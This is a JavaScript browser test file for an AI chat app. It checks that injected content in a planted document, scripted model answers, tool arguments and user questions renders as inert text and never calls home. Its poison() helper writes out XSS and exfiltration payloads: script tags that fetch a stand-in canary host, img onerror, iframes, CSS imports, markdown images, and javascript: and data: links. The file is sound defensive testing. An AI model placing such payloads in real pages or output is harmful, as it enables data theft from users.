import { strict as assert } from "node:assert";
import { mkdirSync, writeFileSync } from "node:fs";
import { newPage, ui, until } from "./browser.mjs";
import { ModelServer } from "./modelServer.mjs";
import { freePort, Program } from "./program.mjs";

const host = "http://canary.test";
const poison = (from) => [
  `<img src="${host}/${from}/img"> <img src=x onerror="alert('${from}')">`,
  `<script>window.stolen = 1; fetch("${host}/${from}/fetch")</script>`,
  `<iframe src="${host}/${from}/frame"></iframe><link rel="preconnect" href="${host}"><style>@import "${host}/${from}/css"; body { background: url(${host}/${from}/bg) }</style>`,
  `![a picture](${host}/${from}/markdown)`,
  `[![inside](${host}/${from}/inside)](${host}/${from}/link)`,
  `![by name][pic]`,
  `[a trap](javascript:alert('${from}')) [data](data:text/html,<script>alert(1)</script>) <${host}/${from}/auto>`,
  `[pic]: ${host}/${from}/reference`,
].join("\n\n");

/** A model and a document that both try to make the page call home. */
export async function injection({ test, browser, canary, folder }) {
  const data = `${folder}/injection`;
  mkdirSync(`${data}/docs`, { recursive: true });
  writeFileSync(`${data}/docs/poison.md`, `# Zebra habits\n\nA zebra sleeps standing.\n\n${poison("document")}\n`);
  const model = new ModelServer();
  await model.listen();
  const program = new Program(data, await freePort(), {
    Models__default__Provider: "openai", Models__default__Endpoint: model.url, Models__default__Model: "scripted", Workspace__Path: `${data}/docs`,
  });
  await program.start();
  const faults = [];
  const context = await browser.newContext({ viewport: { width: 1380, height: 860 } });
  const foreign = [];
  context.on("request", (request) => {
    if (!request.url().startsWith(program.url) && !request.url().startsWith("data:")) foreign.push(request.url());
  });
  const page = await newPage(context, faults);
  const shown = ui(page);
  await page.goto(program.url);

  await test("What a model and a tool write is shown and never obeyed", async () => {
    model.answers = [
      { tool: "search_documents", arguments: { query: "zebra", note: `<img src="${host}/arguments">` } },
      { tool: "read_document", arguments: { path: "docs/poison.md", startLine: 1, lines: 40 } },
      { text: `The end of it.\n\n${poison("answer")}\n\nThat was all.`, pace: 5 },
    ];
    await shown.ask(`Zebras? ${poison("question")}`);
    await until("the whole answer", shown.answer, (t) => t.includes("That was all."));
    await shown.standing("Answered");
    await page.locator(".group > summary").click();
    for (const card of await page.locator(".tool summary").all()) await card.click();
    for (const step of await page.locator(".timeline > li > details > summary").all()) await step.click();
    await until("what the model saw", () => page.locator(".model-input").count(), (n) => n >= 3);
    const closed = page.locator(".model-input details:not([open]) > summary");
    while (await closed.count()) await closed.first().click();
    await shown.shot("injected");
    await page.reload();
    await until("the answer again", shown.answer, (t) => t.includes("That was all."));
    assert.deepEqual(foreign, []);
    assert.equal(canary.connections, 0);
    assert.equal(await page.evaluate(() => window.stolen), undefined);
    faults.push(...(await page.evaluate(() => window.violations)));
    assert.deepEqual(faults, []);
  });

  await test("No element came of it, and its links lead only where a person may go", async () => {
    const found = await page.evaluate(() => [...document.querySelectorAll(".messages img, .messages script, .messages iframe, .messages link, .messages style, .messages [onerror]")].map((e) => e.outerHTML));
    assert.deepEqual(found, []);
    const links = await page.locator(".messages a").evaluateAll((all) => all.map((a) => ({ scheme: new URL(a.href).protocol, rel: a.rel, target: a.target })));
    assert.ok(links.length > 0);
    for (const link of links) assert.deepEqual(link, { scheme: "http:", rel: "noopener noreferrer", target: "_blank" });
    assert.match(await shown.answer(), /<script>window\.stolen = 1/);
  });

  await test("A model that fails for a moment: the page says so, and when it tries again", async () => {
    model.answers = [{ status: 503 }, { status: 503 }, { status: 503 }, { text: "Here I am again." }];
    await shown.ask("Are you there?");
    await page.getByText(/Trying again/).first().waitFor();
    await page.getByText(/gave no answer/).first().waitFor();
    await shown.shot("retrying");
    await until("the answer", shown.answer, (t) => t.includes("Here I am again."));
  });

  await test("A steer is shown at its place, and the model sees it", async () => {
    model.answers = [{ text: "Long words, ".repeat(60), pace: 60 }, { text: "In short: yes." }];
    await shown.ask("Explain zebras at length.");
    await until("the first words", shown.answer, (t) => t.includes("Long words"));
    await shown.ask("Shorter, please.");
    await page.getByText("You, steering").waitFor();
    await until("the second answer", shown.answer, (t) => t.includes("In short: yes."), 60_000);
    assert.match(JSON.stringify(model.requests.at(-1).messages.at(-1)), /Shorter, please/);
    await shown.shot("steered");
  });

  await test("A stop ends the run, and the page says so", async () => {
    model.answers = [{ text: "Words without end. ".repeat(200), pace: 60 }];
    await shown.ask("Go on for ever.");
    await until("words", shown.answer, (t) => t.includes("Words without end."));
    await page.getByRole("button", { name: "Stop" }).click();
    await shown.standing("Stopped");
  });

  await context.close();
  await program.kill();
  model.close();
}
